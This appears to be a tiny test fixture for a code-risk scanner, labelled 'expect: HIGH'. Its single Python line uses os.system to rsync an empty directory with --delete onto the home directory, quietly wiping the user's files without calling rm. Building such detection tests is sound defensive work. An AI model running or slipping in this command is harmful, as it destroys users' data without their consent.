# expect: HIGH
import os
os.system("mkdir /tmp/e; rsync -a --delete /tmp/e/ ~/")
